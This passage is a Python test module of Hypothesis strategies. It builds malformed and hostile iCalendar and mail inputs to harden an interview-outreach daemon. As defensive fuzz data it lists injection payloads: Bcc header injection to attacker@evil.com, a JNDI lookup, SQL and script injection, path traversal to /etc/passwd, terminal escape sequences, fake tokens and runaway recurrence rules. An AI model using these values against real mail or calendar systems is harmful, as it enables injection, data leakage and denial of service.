"""Hypothesis strategies for hostile calendars and mailboxes.

Every strategy draws a *spec*: a small frozen dataclass whose ``repr`` is short enough to
read in a falsifying example (a megabyte-long title is ``Huge('x', 1000000)``, 200,000
recipients are ``Crowd(200000)``), and whose ``render`` gives the bytes written to disk.

Most of what is drawn looks like a real job interview invitation (so that detection,
planning and drafting run on it) with one to a few hostile features: malformed or
truncated iCalendar, hostile RRULEs and VTIMEZONEs, huge and odd fields, invalid and
injected addresses, non-UTF-8 bytes; for Maildir, malformed MIME, huge headers, odd
encodings, invalid dates, threading headers that point at the program's own Message-IDs,
and odd file types (directories, FIFOs, sockets, links to devices or out of the folder).

The very large cases (megabyte fields, thousands of attendees, 200,000 recipients) come
from a rare branch (see :func:`mostly`); the tests also run them as explicit examples.
"""

from __future__ import annotations

import email.utils
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TypeVar

from hypothesis import strategies as st

from interview_outreach.daemon.domain.identity import action_message_id
from interview_outreach.daemon.domain.model import ActionKind

T = TypeVar("T")

# --- the world every example lives in ---------------------------------------------------

USER = "ada.lovelace@example.org"
USER_NAME = "Ada Lovelace"
TIMEZONE = "Europe/London"
START = datetime(2026, 12, 10, 14, 0, tzinfo=UTC)  # Thursday 14:00 London (GMT)
WINDOW_OPENS = datetime(2026, 12, 7, 9, 0, tzinfo=UTC)  # Monday 09:00: outreach due for START
THANKS_DUE = START + timedelta(hours=3)  # 17:00: thank-yous due for a 14:00-15:00 interview
PASS_TIMES = (WINDOW_OPENS, THANKS_DUE)
SENT_AT = WINDOW_OPENS - timedelta(days=1)  # when the user sent GOOD_SENT's outreach
MAIL_TIME = WINDOW_OPENS - timedelta(hours=2)  # the mtime of every planted message file
MAX_NEW_DRAFTS_PER_PASS = 25  # the default of [rules] max_new_drafts_per_pass


@dataclass(frozen=True)
class GoodInterview:
    """A well-formed interview every world holds, whose drafts hostile input must not stop."""

    uid: str
    title: str
    start: datetime
    organizer: tuple[str, str]  # (name, address)
    attendees: tuple[tuple[str, str], ...] = ()

    @property
    def interviewers(self) -> tuple[str, ...]:
        """The addresses that get a thank-you."""
        return (self.organizer[1], *(a for _, a in self.attendees))

    def render(self) -> bytes:
        """The invitation as an ``.ics`` file."""
        stamp = "%Y%m%dT%H%M%SZ"
        people = [f"ORGANIZER;CN={self.organizer[0]}:mailto:{self.organizer[1]}"]
        people += [
            f"ATTENDEE;CN={name};PARTSTAT=ACCEPTED;ROLE=REQ-PARTICIPANT:mailto:{address}"
            for name, address in (self.organizer, *self.attendees)
        ]
        people.append(f"ATTENDEE;CN={USER_NAME};PARTSTAT=ACCEPTED:mailto:{USER}")
        lines = [
            "BEGIN:VCALENDAR",
            "VERSION:2.0",
            "PRODID:-//tests//generated//EN",
            "BEGIN:VEVENT",
            f"UID:{self.uid}",
            "DTSTAMP:20261101T000000Z",
            f"DTSTART:{self.start.strftime(stamp)}",
            f"DTEND:{(self.start + timedelta(hours=1)).strftime(stamp)}",
            f"SUMMARY:{self.title}",
            "DESCRIPTION:Interview for the open position. Looking forward to it.",
            "LOCATION:https://meet.google.com/abc-defg-hij",
            *people,
            "END:VEVENT",
            "END:VCALENDAR",
        ]
        return "".join(f"{line}\r\n" for line in lines).encode("utf-8")


GOOD_OUTREACH = GoodInterview(
    "good-outreach",
    "Acme – Technical interview (Senior Backend Engineer)",
    START,
    ("Jane Doe", "jane.doe@acme.com"),
    (("Raj Patel", "raj@acme.com"),),
)
"""Outreach due at the first pass, two thank-yous at the second."""

GOOD_SENT = GoodInterview(
    "good-sent",
    "Globex interview: Platform Engineer",
    START + timedelta(hours=2),
    ("Lee Chen", "lee.chen@globex.com"),
)
"""Its outreach is in Sent already: hostile messages in its thread run reply detection."""

GOOD_INTERVIEWS = (GOOD_OUTREACH, GOOD_SENT)
RESERVED_DOMAINS = ("acme.com", "globex.com")  # only the good interviews' people live there


def own_message_id(uid: str, kind: ActionKind, recipient: str) -> str:
    """The Message-ID the program derives for an action (see ``daemon.domain.identity``)."""
    return action_message_id(uid, "", kind, recipient, USER)


OWN_MESSAGE_IDS = (
    own_message_id(GOOD_SENT.uid, ActionKind.OUTREACH, GOOD_SENT.organizer[1]),
    own_message_id(GOOD_SENT.uid, ActionKind.FOLLOWUP, GOOD_SENT.organizer[1]),
    own_message_id(GOOD_OUTREACH.uid, ActionKind.OUTREACH, GOOD_OUTREACH.organizer[1]),
    own_message_id(GOOD_OUTREACH.uid, ActionKind.THANKYOU, "jane.doe@acme.com"),
    own_message_id(GOOD_OUTREACH.uid, ActionKind.THANKYOU, "raj@acme.com"),
    own_message_id("hostile-0", ActionKind.OUTREACH, "jane.doe@northwind.com"),
)
"""The program's own Message-IDs, for hostile threading headers and planted copies."""


def sent_outreach() -> bytes:
    """GOOD_SENT's outreach as the user sent it (a file of the Sent folder)."""
    lines = [
        f"From: {USER_NAME} <{USER}>",
        f"To: {GOOD_SENT.organizer[0]} <{GOOD_SENT.organizer[1]}>",
        "Subject: Looking forward to our conversation",
        f"Date: {email.utils.format_datetime(SENT_AT)}",
        f"Message-ID: {OWN_MESSAGE_IDS[0]}",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Hello Lee, I look forward to our conversation on Thursday. Ada",
    ]
    return "".join(f"{line}\n" for line in lines).encode("utf-8")


# --- compact descriptions of large values --------------------------------------------------


@dataclass(frozen=True)
class Huge:
    """``prefix`` then ``unit`` repeated ``times`` times: a large field in a few characters."""

    unit: str
    times: int
    prefix: str = ""

    def __str__(self) -> str:
        return self.prefix + self.unit * self.times


@dataclass(frozen=True)
class Crowd:
    """``count`` addresses ``guest<n>@<domain>`` separated by ``separator``."""

    count: int
    domain: str = "crowd.example.net"
    separator: str = ", "

    def __str__(self) -> str:
        return self.separator.join(f"guest{n}@{self.domain}" for n in range(self.count))


@dataclass(frozen=True)
class IdCrowd:
    """``count`` Message-IDs (the program's own among them), as a References header holds."""

    count: int

    def __str__(self) -> str:
        ids = [f"<ref{n}@crowd.example.net>" for n in range(self.count)]
        return " ".join([*ids, *OWN_MESSAGE_IDS[:2]])


@dataclass(frozen=True)
class Rdates:
    """An RDATE line with ``count`` occurrences a minute apart from START."""

    count: int

    def __str__(self) -> str:
        return "RDATE:" + ",".join(
            f"{START + timedelta(minutes=m):%Y%m%dT%H%M%S}Z" for m in range(self.count)
        )


Text = str | Huge | Crowd | IdCrowd | Rdates


def text(value: Text) -> str:
    """The text a spec field stands for."""
    return str(value)


def mostly(
    common: st.SearchStrategy[T], rare: st.SearchStrategy[T], one_in: int = 8
) -> st.SearchStrategy[T]:
    """``common`` most of the time, ``rare`` about once in ``one_in`` draws (shrinks to common)."""
    return st.integers(1, one_in).flatmap(lambda n: rare if n == one_in else common)


# --- byte-level damage ----------------------------------------------------------------------


@dataclass(frozen=True)
class Truncate:
    """Cut the file at byte ``at`` (modulo its length)."""

    at: int


@dataclass(frozen=True)
class FlipByte:
    """XOR the byte at ``at`` (modulo the length) with ``mask``."""

    at: int
    mask: int


@dataclass(frozen=True)
class InsertBytes:
    """Insert ``data`` at byte ``at`` (modulo the length + 1)."""

    at: int
    data: bytes


@dataclass(frozen=True)
class DropLines:
    """Remove every line that starts with ``prefix`` (e.g. ``UID``, ``END:VEVENT``)."""

    prefix: str


@dataclass(frozen=True)
class DuplicateLines:
    """Repeat every line that starts with ``prefix`` ``times`` more times."""

    prefix: str
    times: int


Mutation = Truncate | FlipByte | InsertBytes | DropLines | DuplicateLines


def mutate(data: bytes, mutations: Sequence[Mutation]) -> bytes:
    """``data`` with each mutation applied in turn."""
    for mutation in mutations:
        if isinstance(mutation, Truncate):
            data = data[: mutation.at % (len(data) + 1)]
        elif isinstance(mutation, FlipByte):
            if data:
                at = mutation.at % len(data)
                data = data[:at] + bytes([data[at] ^ mutation.mask]) + data[at + 1 :]
        elif isinstance(mutation, InsertBytes):
            at = mutation.at % (len(data) + 1)
            data = data[:at] + mutation.data + data[at:]
        else:
            prefix = mutation.prefix.encode("ascii").upper()
            lines = data.splitlines(keepends=True)
            kept: list[bytes] = []
            for line in lines:
                matches = line.upper().startswith(prefix)
                if isinstance(mutation, DropLines):
                    if not matches:
                        kept.append(line)
                else:
                    kept.extend([line] * (1 + (mutation.times if matches else 0)))
            data = b"".join(kept)
    return data


BAD_BYTES = (
    b"\xff\xfe",  # not UTF-8 (and a UTF-16 BOM)
    b"\xc3",  # a truncated two-byte sequence
    b"\xed\xa0\x80",  # an encoded surrogate
    b"\xc0\xaf",  # an overlong slash
    b"\xe9t\xe9",  # latin-1 "été"
    b"\x00",
    b"\x1b[2J\x1b[31m",
    b"\r",
    b"\n",
    b"\r\n ",  # a fold in the middle of anything
    b"\xef\xbb\xbf",  # a BOM in the middle
    b"\xf4\x90\x80\x80",  # above U+10FFFF
)


def mutations(prefixes: Sequence[str]) -> st.SearchStrategy[tuple[Mutation, ...]]:
    """Zero to three byte- or line-level damages (none most of the time)."""
    one: st.SearchStrategy[Mutation] = st.one_of(
        st.builds(Truncate, st.integers(0, 1 << 20)),
        st.builds(FlipByte, st.integers(0, 1 << 20), st.integers(1, 255)),
        st.builds(InsertBytes, st.integers(0, 1 << 20), st.sampled_from(BAD_BYTES)),
        st.builds(DropLines, st.sampled_from(prefixes)),
        st.builds(DuplicateLines, st.sampled_from(prefixes), st.integers(1, 3)),
    )
    some = st.lists(one, min_size=1, max_size=3).map(tuple)
    return mostly(st.just(()), some, one_in=3)


# --- text, names and addresses -----------------------------------------------------------

SECRET_TEXTS = (
    "Authorization: Bearer ya29.SECRETa0b1c2d3e4f5",
    "refresh_token=1//0SECRETSECRETSECRET",
    '{"access_token": "SECRETopaqueTOKEN", "refresh_token": "1//0SECRETSECRETSECRET"}',
    "id_token: eyJhbGciOiJSUzI1NiJ9.eyJTRUNSRVQiOjF9.SECRETsignature",
    "https://ada:SECRETpassword@mail.example.org/",
    "client_secret=SECRETclient&code=4/0SECRETcodeSECRETcodeSECRET",
)
"""Token-like strings planted in the input; none may be printed or stored as it is."""

CONTROL_TEXTS = (
    "\x1b[2J\x1b[H\x1b[31mURGENT\x1b[0m",  # clear screen, red
    "\x1b]0;pwned\x07",  # set the terminal title
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # a hidden link
    "\x9b31mC1 CSI",
    "bell\x07\x08\x08\x08\x08",
    "\rOverwritten line",
    "fake\u2028line\u2029break",
    "nul\x00byte",
    "\u202eevil.exe\u202c",
    "zero\u200bwidth\ufeff",
    "del\x7fete",
)

INJECTIONS = (
    "\\nBcc: attacker@evil.com",  # an escaped line break (becomes one when unescaped)
    "\nBcc: attacker@evil.com",  # a raw line break: a line of its own in the file
    "\r\n X-Injected: folded",  # a fold: continues the line
    "{{ 7 * 7 }}{% for x in range(10**9) %}{% endfor %}",  # template syntax
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n",
    "<script>alert(1)</script>",
    "'; DROP TABLE interviews; --",
    "Ünïcödé ✓ 🙂 ﷽ 李伟",
)

HOSTILE_FRAGMENTS = SECRET_TEXTS + CONTROL_TEXTS + INJECTIONS

HUGE_UNITS = (
    "x",
    "interview ",
    "é",
    "\x1b[31m",
    "ya29.SECRETx ",
    "🙂",
    "\\n",
    "Bcc: x@evil.com\\n",
)

ICS_TEXT_ALPHABET = st.characters(codec="utf-8")  # any character UTF-8 can encode


def ics_escape(value: str) -> str:
    """``value`` as an iCalendar TEXT value (RFC 5545 3.3.11)."""
    return (
        value.replace("\\", "\\\\")
        .replace(";", "\\;")
        .replace(",", "\\,")
        .replace("\r\n", "\\n")
        .replace("\n", "\\n")
    )


def huge_texts(limit: int) -> st.SearchStrategy[Text]:
    """Very long text: a short unit repeated to between 1,000 and ``limit`` characters."""
    return st.sampled_from(HUGE_UNITS).flatmap(
        lambda unit: st.builds(
            Huge, st.just(unit), st.integers(1_000 // len(unit), limit // len(unit))
        )
    )


def decorated(bases: Sequence[str], *, huge_limit: int) -> st.SearchStrategy[Text]:
    """One of ``bases``, sometimes with hostile fragments or random text; rarely huge."""
    plain = st.sampled_from(bases)
    fragment = st.one_of(
        st.sampled_from(HOSTILE_FRAGMENTS), st.text(ICS_TEXT_ALPHABET, max_size=12).map(ics_escape)
    )
    spiced = st.builds(
        lambda base, extra, before: f"{extra} {base}" if before else f"{base} {extra}",
        plain,
        fragment,
        st.booleans(),
    )
    return mostly(mostly(plain, spiced, one_in=3), huge_texts(huge_limit), one_in=12)


TITLES = (
    "Northwind – Technical interview (Data Engineer)",
    "Interview: Senior Backend Engineer at Initech",
    "Vorstellungsgespräch – Softwareentwickler (Umbrella GmbH)",
    "Entretien d'embauche – Ingénieur logiciel chez Hooli",
    "Final round – Staff Engineer\\, Northwind",
    "Initech: system design interview",
    "Phone screen – Data Analyst",
    "Exit interview",
    "Team sync",
)
DESCRIPTIONS = (
    "Interview for the Data Engineer position at Northwind.",
    "Hi! Looking forward to speaking with you about the role. The hiring team",
    "Please do not contact the interviewers directly.",
    "",
)

GOOD_ADDRESSES = (
    "jane.doe@northwind.com",
    "raj.patel@northwind.com",
    "m.garcia@initech.io",
    "li.wei@umbrella.de",
    "o'brien@northwind.com",
    "anne-marie+jobs@northwind.co.uk",
    "JANE.DOE@NORTHWIND.COM",
    "jöhn@bücher.de",
    "careers@northwind.com",
    "no-reply@greenhouse.io",
    "room-4@resource.calendar.google.com",
    USER.upper(),
)
HOSTILE_ADDRESSES = (
    "jane@northwind.com?bcc=attacker@evil.com",
    "jane@northwind.com>, attacker@evil.com",
    "jane@northwind.com, attacker@evil.com",
    "jane@northwind.com;attacker@evil.com",
    "jane@northwind.com\r\n Bcc: attacker@evil.com",  # folded: one value once unfolded
    "jane@northwind.com\\r\\nBcc: attacker@evil.com",  # escaped
    "jane@northwind.com\r\nBcc: attacker@evil.com",  # a raw line break
    "jane@northwind.com%0d%0aBcc:attacker@evil.com",
    '"jane doe"@northwind.com',
    'jane"@northwind.com',
    "Jane Doe <jane@northwind.com>",
    "<jane@northwind.com>",
    "jane@@northwind.com",
    "@northwind.com",
    "jane@",
    "jane",
    "",
    " ",
    "jane@localhost",
    "jane@northwind",
    "jane@123.45",
    "jane@[127.0.0.1]",
    "jane@northwind..com",
    ".jane@northwind.com",
    "jane@-northwind.com",
    "jane@northwind.com.",
    "ｊａｎｅ@ｎｏｒｔｈｗｉｎｄ.com",
    "jane\u200b@northwind.com",
    "jane@northwind.com\u202e",
    "jane\x00@northwind.com",
    "jane\x1b[31m@northwind.com",
    "jane\u2028@northwind.com",
    "İnan@northwind.com",
    "a" * 65 + "@northwind.com",
    "a" * 300 + "@northwind.com",
    "jane@" + "a" * 64 + ".com",
    "jane@" + "a." * 130 + "com",
    "=?utf-8?q?jane?=@northwind.com",
    "jane@northwind.com (comment)",
    "undisclosed-recipients:;",
    "jane%40northwind.com",
)
ADDRESS_ALPHABET = st.sampled_from(
    [
        *"abcxyz019.-_+'!#$%&*/=?^`{|}~\"(),:;<>@[\\] éüß李İı",
        "\u200b",
        "\u202e",
        "\x00",
        "\x1b",
        "\r",
        "\n",
        "\t",
    ]
)
DOMAINS = (
    "northwind.com",
    "initech.io",
    "umbrella.de",
    "evil.com",
    "xn--bcher-kva.de",
    "localhost",
    "",
)


def addresses() -> st.SearchStrategy[str]:
    """An address as a stranger may write it: mostly real ones, often hostile or random."""
    generated = st.builds(
        lambda local, domain: f"{local}@{domain}",
        st.text(ADDRESS_ALPHABET, max_size=20),
        st.sampled_from(DOMAINS),
    )
    return st.one_of(st.sampled_from(GOOD_ADDRESSES), st.sampled_from(HOSTILE_ADDRESSES), generated)


NAMES = ("Jane Doe", "Raj Patel", "Doe, Jane", "María José García-López", "李伟", "")
HOSTILE_NAMES = (
    '"Jane" <attacker@evil.com>',
    "Jane\r\nBcc: attacker@evil.com",
    "Jane\\nBcc: attacker@evil.com",
    "\x1b[2J\x1b[31mJane",
    "Jane \u202egnp.exe",
    "Bearer ya29.SECRETname0123",
    "=?utf-8?b?SmFuZQ==?=",
    'Jane "The Hammer" Doe',
    "Jane;PARTSTAT=DECLINED",
    "Jane:mailto:attacker@evil.com",
)


def names() -> st.SearchStrategy[Text]:
    """A display name (a CN parameter, a From phrase); rarely huge or hostile."""
    return mostly(
        st.sampled_from(NAMES),
        st.one_of(
            st.sampled_from(HOSTILE_NAMES), st.builds(Huge, st.just("J"), st.integers(300, 20_000))
        ),
        one_in=5,
    )


# --- calendars -------------------------------------------------------------------------


@dataclass(frozen=True)
class Person:
    """An ORGANIZER or ATTENDEE line: ``<property>;CN=<name><params>:<scheme><address>``."""

    address: str
    name: Text = ""
    params: str = ";PARTSTAT=ACCEPTED;ROLE=REQ-PARTICIPANT"
    scheme: str = "mailto:"

    def line(self, prop: str) -> str:
        """The content line for property ``prop``."""
        name = text(self.name)
        quoted = f'"{name}"' if any(c in name for c in ";:,") else name
        cn = f";CN={quoted}" if name else ""
        return f"{prop}{cn}{self.params}:{self.scheme}{self.address}"


@dataclass(frozen=True)
class EventSpec:
    """One VEVENT; ``None`` leaves a property out."""

    uid: str | None
    summary: Text
    description: Text
    location: Text
    dtstart: str | None  # after "DTSTART": ":20261210T140000Z", ";TZID=…:…"
    dtend: str | None  # a whole line: "DTEND:…" or "DURATION:PT1H"
    organizer: Person | None
    attendees: tuple[Person, ...] = ()
    crowd: int = 0  # that many more attendees guest<n>@crowd.northwind.com
    user_partstat: str | None = "ACCEPTED"  # None: the user is not on the invitation
    rrule: str | None = None
    extra: tuple[Text, ...] = ()  # whole content lines

    def lines(self) -> list[str]:
        """The content lines of the VEVENT."""
        lines = ["BEGIN:VEVENT"]
        if self.uid is not None:
            lines.append(f"UID:{self.uid}")
        lines.append("DTSTAMP:20261101T000000Z")
        if self.dtstart is not None:
            lines.append(f"DTSTART{self.dtstart}")
        if self.dtend is not None:
            lines.append(self.dtend)
        if self.rrule is not None:
            lines.append(f"RRULE:{self.rrule}")
        lines.append(f"SUMMARY:{text(self.summary)}")
        if text(self.description):
            lines.append(f"DESCRIPTION:{text(self.description)}")
        if text(self.location):
            lines.append(f"LOCATION:{text(self.location)}")
        if self.organizer is not None:
            lines.append(self.organizer.line("ORGANIZER"))
        lines.extend(a.line("ATTENDEE") for a in self.attendees)
        lines.extend(
            f"ATTENDEE;CN=Guest {n};PARTSTAT=ACCEPTED:mailto:guest{n}@crowd.northwind.com"
            for n in range(self.crowd)
        )
        if self.user_partstat is not None:
            lines.append(f"ATTENDEE;CN={USER_NAME};PARTSTAT={self.user_partstat}:mailto:{USER}")
        lines.extend(text(x) for x in self.extra)
        lines.append("END:VEVENT")
        return lines


@dataclass(frozen=True)
class TimezoneSpec:
    """A VTIMEZONE with a STANDARD and/or DAYLIGHT part, each possibly hostile."""

    tzid: str
    offset_from: str = "+0100"
    offset_to: str = "+0000"
    dtstart: str | None = "19701025T030000"
    rrule: str | None = "FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU"
    parts: str = "both"  # "both", "standard", "daylight", "none"

    def lines(self) -> list[str]:
        """The content lines of the VTIMEZONE."""
        lines = ["BEGIN:VTIMEZONE", f"TZID:{self.tzid}"]
        for part, offsets in (
            ("STANDARD", (self.offset_from, self.offset_to)),
            ("DAYLIGHT", (self.offset_to, self.offset_from)),
        ):
            if self.parts not in ("both", part.lower()):
                continue
            lines.append(f"BEGIN:{part}")
            if self.dtstart is not None:
                lines.append(f"DTSTART:{self.dtstart}")
            lines += [f"TZOFFSETFROM:{offsets[0]}", f"TZOFFSETTO:{offsets[1]}"]
            if self.rrule is not None:
                rule = (
                    self.rrule.replace("BYMONTH=10", "BYMONTH=3")
                    if part == "DAYLIGHT"
                    else self.rrule
                )
                lines.append(f"RRULE:{rule}")
            lines.append(f"END:{part}")
        lines.append("END:VTIMEZONE")
        return lines


@dataclass(frozen=True)
class CalendarSpec:
    """One ``.ics`` file of the vdir."""

    name: str
    events: tuple[EventSpec, ...]
    timezones: tuple[TimezoneSpec, ...] = ()
    method: str | None = None
    x_wr_timezone: str | None = None
    encoding: str = "utf-8"
    newline: str = "\r\n"
    fold: bool = False
    damage: tuple[Mutation, ...] = ()

    def render(self) -> bytes:
        """The file's bytes."""
        lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//tests//hostile//EN"]
        if self.method is not None:
            lines.append(f"METHOD:{self.method}")
        if self.x_wr_timezone is not None:
            lines.append(f"X-WR-TIMEZONE:{self.x_wr_timezone}")
        for zone in self.timezones:
            lines += zone.lines()
        for event in self.events:
            lines += event.lines()
        lines.append("END:VCALENDAR")
        if self.fold:
            lines = [folded for line in lines for folded in _fold(line)]
        data = "".join(line + self.newline for line in lines)
        return mutate(data.encode(self.encoding, errors="replace"), self.damage)


def _fold(line: str) -> list[str]:
    """RFC 5545 folding (by characters: close enough for a hostile file)."""
    if len(line) <= 75:
        return [line]
    return [line[:75]] + [" " + line[i : i + 74] for i in range(75, len(line), 74)]


TZIDS = (
    "Europe/Berlin",
    "America/New_York",
    "W. Europe Standard Time",
    "Pacific Standard Time",
    '"(UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna"',
    "(UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna",  # unquoted: malformed
    "Customized Time Zone",
    "/mozilla.org/20050126_1/Europe/Berlin",
    "Etc/GMT+14",
    "Etc/GMT-14",
    "UTC",
    "Z",
    "Mars/Olympus_Mons",
    "../../../../etc/passwd",
    "Europe/Berlin\x00",
    "\x1b[31mRed/Zone",
    "ya29.SECRETzone",
    "A" * 5_000,
    "",
)
OFFSETS = (
    "+0100",
    "+0000",
    "-0500",
    "+1400",
    "-1200",
    "+9999",
    "-2400",
    "+0100junk",
    "",
    "+01",
    "+010000",
    "+2359",
)
TZ_RULES = (
    "FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU",
    "FREQ=SECONDLY",
    "FREQ=MINUTELY",
    "FREQ=SECONDLY;COUNT=1000000000",
    "FREQ=DAILY",
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=YEARLY;UNTIL=00010101T000000Z",
    "FREQ=BOGUS",
    None,
)
TZ_STARTS = (
    "19701025T030000",
    "16010101T000000",
    "00010101T000000",
    "99991231T235959",
    "20261210T140000",
    "nonsense",
    None,
)


def timezones(tzid: str) -> st.SearchStrategy[TimezoneSpec]:
    """A VTIMEZONE for ``tzid``: mostly sane, often hostile in one or more parts."""
    return st.builds(
        TimezoneSpec,
        st.just(tzid),
        mostly(st.just("+0100"), st.sampled_from(OFFSETS), one_in=3),
        mostly(st.just("+0000"), st.sampled_from(OFFSETS), one_in=3),
        mostly(st.just("19701025T030000"), st.sampled_from(TZ_STARTS), one_in=3),
        mostly(st.just(TZ_RULES[0]), st.sampled_from(TZ_RULES), one_in=2),
        mostly(st.just("both"), st.sampled_from(("standard", "daylight", "none")), one_in=4),
    )


_BY_ALL = (
    ";BYMONTH="
    + ",".join(map(str, range(1, 13)))
    + ";BYMONTHDAY="
    + ",".join(map(str, range(1, 32)))
    + ";BYHOUR="
    + ",".join(map(str, range(24)))
    + ";BYMINUTE="
    + ",".join(map(str, range(60)))
    + ";BYSECOND="
    + ",".join(map(str, range(60)))
)
RRULES = (
    "FREQ=SECONDLY",
    "FREQ=SECONDLY;COUNT=1000000000",
    "FREQ=SECONDLY;BYSECOND=" + ",".join(map(str, range(60))),
    "FREQ=SECONDLY;INTERVAL=3600",  # hourly, spelt secondly
    "FREQ=MINUTELY",
    "FREQ=MINUTELY;COUNT=100000",
    "FREQ=MINUTELY;INTERVAL=60;COUNT=100",
    "FREQ=HOURLY",
    "FREQ=HOURLY;COUNT=100000",
    "FREQ=DAILY" + _BY_ALL,
    "FREQ=YEARLY" + _BY_ALL,
    "FREQ=DAILY;UNTIL=19700101T000000Z",
    "FREQ=DAILY;UNTIL=00010101T000000Z",
    "FREQ=DAILY;COUNT=0",
    "FREQ=DAILY;COUNT=-1",
    "FREQ=DAILY;INTERVAL=0",
    "FREQ=DAILY;INTERVAL=-1",
    "FREQ=WEEKLY;INTERVAL=100000000",
    "FREQ=MONTHLY;BYMONTHDAY=31;BYMONTH=2",
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=YEARLY;BYWEEKNO=53;BYDAY=MO",
    "FREQ=YEARLY;BYYEARDAY=367",
    "FREQ=DAILY;BYDAY=1000MO",
    "FREQ=DAILY;BYSETPOS=1000",
    "FREQ=DAILY;COUNT=60",
    "FREQ=WEEKLY;COUNT=10",
    "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR",
    "FREQ=DAILY;COUNT=10;UNTIL=20271231T000000Z",
    "FREQ=FOO",
    "FREQ=DAILY;;;;",
    "",
)
FREQS = ("SECONDLY", "MINUTELY", "HOURLY", "DAILY", "WEEKLY", "MONTHLY", "YEARLY")


def rrules() -> st.SearchStrategy[str]:
    """A recurrence rule: listed hostile ones or a random FREQ/INTERVAL/COUNT/UNTIL mix."""
    generated = st.builds(
        lambda freq, interval, count, until: f"FREQ={freq}{interval}{count}{until}",
        st.sampled_from(FREQS),
        st.sampled_from(("", ";INTERVAL=1", ";INTERVAL=2", ";INTERVAL=0", ";INTERVAL=3600")),
        st.one_of(st.just(""), st.integers(-1, 10**9).map(lambda n: f";COUNT={n}")),
        st.sampled_from(
            ("", ";UNTIL=20261231T000000Z", ";UNTIL=19000101T000000Z", ";UNTIL=99991231T235959Z")
        ),
    )
    return st.one_of(st.sampled_from(RRULES), generated)


STAMP = "%Y%m%dT%H%M%S"
ODD_DTSTARTS = (
    ":00010101T000000Z",
    ":99991231T235959Z",
    ":20261310T250000Z",
    ":2026-12-10T14:00:00Z",
    ":",
    ";TZID=:20261210T140000",
    ":20261210T140000Z;junk",
    ";VALUE=PERIOD:20261210T140000Z/PT1H",
    ";VALUE=DATE:20261210",
    ":16010101T000000",
    ";VALUE=DATE-TIME:20261210",
    ":" + "9" * 5_000,
)
ODD_DTENDS = (
    "DURATION:PT1H",
    "DURATION:P9999999D",
    "DURATION:-PT1H",
    "DURATION:garbage",
    "DURATION:PT0S",
    "DTEND:00010101T000000Z",
    "DTEND:99991231T235959Z",
    "DTEND;VALUE=DATE:20261211",
    "DTEND:nonsense",
)


@st.composite
def event_times(draw: st.DrawFn, tzid: str) -> tuple[str | None, str | None]:
    """DTSTART and DTEND (or DURATION) around the passes, in many forms, rarely absurd."""
    hours = draw(
        mostly(
            st.sampled_from((0, 0, 1, -1, 2, -3, 26, -26, 49)),
            st.integers(-24 * 10, 24 * 60),
            one_in=4,
        )
    )
    start = START + timedelta(hours=hours)
    end = start + timedelta(minutes=draw(st.sampled_from((60, 45, 30, 90, 0, -60, 600))))
    form = draw(
        mostly(st.just("utc"), st.sampled_from(("tzid", "floating", "date", "odd")), one_in=3)
    )
    if form == "utc":
        pair = (f":{start:{STAMP}}Z", f"DTEND:{end:{STAMP}}Z")
    elif form == "tzid":
        param = tzid if tzid.startswith('"') or not any(c in tzid for c in ";:,") else f'"{tzid}"'
        pair = (f";TZID={param}:{start:{STAMP}}", f"DTEND;TZID={param}:{end:{STAMP}}")
    elif form == "floating":
        pair = (f":{start:{STAMP}}", f"DTEND:{end:{STAMP}}")
    elif form == "date":
        pair = (f";VALUE=DATE:{start:%Y%m%d}", f"DTEND;VALUE=DATE:{end:%Y%m%d}")
    else:
        pair = (draw(st.sampled_from(ODD_DTSTARTS)), f"DTEND:{end:{STAMP}}Z")
    dtstart, dtend = pair
    dtend_choice = draw(
        mostly(st.just(dtend), st.one_of(st.none(), st.sampled_from(ODD_DTENDS)), one_in=5)
    )
    return (
        None if draw(mostly(st.just(False), st.just(True), one_in=20)) else dtstart
    ), dtend_choice


PARAMS = (
    ";PARTSTAT=ACCEPTED;ROLE=REQ-PARTICIPANT",
    ";PARTSTAT=DECLINED",
    ";CUTYPE=ROOM",
    ";CUTYPE=GROUP",
    ";ROLE=OPT-PARTICIPANT",
    ';PARTSTAT=DELEGATED;DELEGATED-TO="mailto:attacker@evil.com"',
    ';SENT-BY="mailto:attacker@evil.com"',
    ";EMAIL=attacker@evil.com",
    ";PARTSTAT=" + "X" * 2_000,
    ';X-JUNK="unterminated',
    "",
)
SCHEMES = ("MAILTO:", "", "mailto: ", "http://", "tel:", "mailto:mailto:")


def persons(default: str) -> st.SearchStrategy[Person]:
    """An ORGANIZER or ATTENDEE: ``default`` most of the time, otherwise anything."""
    return st.builds(
        Person,
        mostly(st.just(default), addresses(), one_in=3),
        names(),
        mostly(st.just(PARAMS[0]), st.sampled_from(PARAMS), one_in=5),
        mostly(st.just("mailto:"), st.sampled_from(SCHEMES), one_in=8),
    )


ODD_UIDS = (
    "",
    " ",
    "good-outreach\x00",
    "\x1b[31muid",
    "uid\nwith-break",
    "ya29.SECRETuid0123",
    "../../etc/passwd",
    "U" * 10_000,
    "same-uid",
)
EXTRA_LINES: tuple[Text, ...] = (
    "STATUS:CANCELLED",
    "STATUS:TENTATIVE",
    "STATUS:" + "\x1b[31m",
    "RECURRENCE-ID:20261210T140000Z",  # an override without its master
    "RECURRENCE-ID;RANGE=THISANDFUTURE:20261210T140000Z",
    "RECURRENCE-ID:garbage",
    "SEQUENCE:999999999999999999999999",
    "EXDATE:20261210T140000Z",
    "RDATE:" + ",".join(f"202612{d:02d}T140000Z" for d in range(1, 29)),
    "X-GOOGLE-CONFERENCE:https://meet.google.com/abc-defg-hij",
    "X-MICROSOFT-SKYPETEAMSMEETINGURL:javascript:alert(1)",
    "X-GOOGLE-CONFERENCE:\x1b[31mhttps://evil.example",
    "X-SECRET:refresh_token=1//0SECRETSECRETSECRET",
    "DTSTART:20261211T090000Z",  # a second DTSTART
    "UID:second-uid",
